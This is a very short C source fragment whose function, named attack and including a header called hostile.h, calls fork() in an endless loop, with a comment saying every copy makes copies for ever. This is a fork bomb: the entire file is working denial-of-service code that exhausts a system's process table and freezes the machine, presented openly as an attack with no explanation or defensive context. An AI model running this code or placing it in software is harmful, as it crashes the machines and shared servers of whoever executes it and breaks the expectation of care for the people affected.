/* Every copy makes copies, for ever. */
#include "hostile.h"

void attack(void)
{
    for (;;)
        fork();
}
